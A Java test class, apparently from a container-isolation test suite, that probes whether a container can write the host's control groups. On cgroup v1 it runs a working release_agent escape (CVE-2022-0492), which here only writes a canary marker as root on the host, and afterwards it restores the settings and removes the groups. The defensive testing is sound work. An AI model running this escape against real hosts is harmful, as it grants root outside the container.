package dev.belljar;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;

/**
 * The attack on the host's control groups, in a container without a CGROUP namespace. Making a
 * group stands for all that can be done there. In a machine that is thrown away, on version 1, the
 * worst of it is done: the kernel executes, as root on the host, what the container names as the
 * agent to be told of empty groups.
 */
final class GroupAttack {
  private static final Path GROUPS = Path.of("/sys/fs/cgroup");
  private static final String CANARY = "canary-" + ProcessHandle.current().pid();
  private static final String AGENT = "release_agent";
  private static final String ARMED = "armed";

  private static final String MAKE_GROUPS =
      "mkdir $(echo /sys/fs/cgroup /sys/fs/cgroup/* | sed 's: :/%1$s :g')/%1$s".formatted(CANARY);

  private GroupAttack() {}

  static Attack attack() {
    return Attack.of(
            "control groups of the host are writable without CGROUP",
            "CVE-2023-25809",
            "CVE-2022-0492")
        .prepared(GroupAttack::prepare)
        .wanting(scene -> Wanted.sh(scene, script(scene)).withoutCgroupNamespace())
        .lostWhen(GroupAttack::isLost);
  }

  private static void prepare(Scene scene) {
    Assumptions.assumeTrue(
        places().stream().anyMatch(Files::isWritable),
        "needs a control group that the user may change");
    scene.script(agent(scene), "#!/bin/sh\necho %s > %s\n".formatted(Attacks.HARM, scene.canary()));
  }

  private static String script(Scene scene) {
    return isAgentNamed() ? namingAnAgent(agent(scene)) : MAKE_GROUPS;
  }

  private static String namingAnAgent(Path agent) {
    return """
    for h in /sys/fs/cgroup/*; do
      [ -f $h/release_agent ] && mkdir $h/%1$s || continue
      echo %2$s > $h/release_agent &&
        echo 1 > $h/%1$s/notify_on_release &&
        sh -c "echo \\$\\$ > $h/%1$s/cgroup.procs" &&
        echo %3$s && break
    done
    """
        .formatted(CANARY, agent, ARMED);
  }

  private static boolean isAgentNamed() {
    return RealTargets.areAttacked() && places().stream().anyMatch(GroupAttack::hasAgent);
  }

  private static boolean hasAgent(Path place) {
    return Files.exists(place.resolve(AGENT));
  }

  private static Path agent(Scene scene) {
    return scene.kept().resolve("agent");
  }

  private static boolean isLost(Scene scene, String output) {
    if (!isAgentNamed()) {
      return removeGroups() > 0;
    }
    if (output.contains(ARMED)) { // what the kernel executes, it does in its own time
      Await.until("the agent has run", scene::victimIsHarmed);
    }
    String named = agent(scene).toString();
    for (Path place : places()) {
      if (hasAgent(place) && Scene.read(place.resolve(AGENT)).strip().equals(named)) {
        scene.write(place.resolve(AGENT), "\n");
      }
    }
    boolean isMade = removeGroups() > 0;
    return isMade || scene.victimIsHarmed();
  }

  private static long removeGroups() {
    return places().stream()
        .map(place -> place.resolve(CANARY))
        .filter(Files::isDirectory)
        .filter(group -> group.toFile().delete())
        .count();
  }

  private static List<Path> places() {
    try (Stream<Path> below = Files.list(GROUPS)) {
      return Stream.concat(Stream.of(GROUPS), below).filter(Files::isDirectory).toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
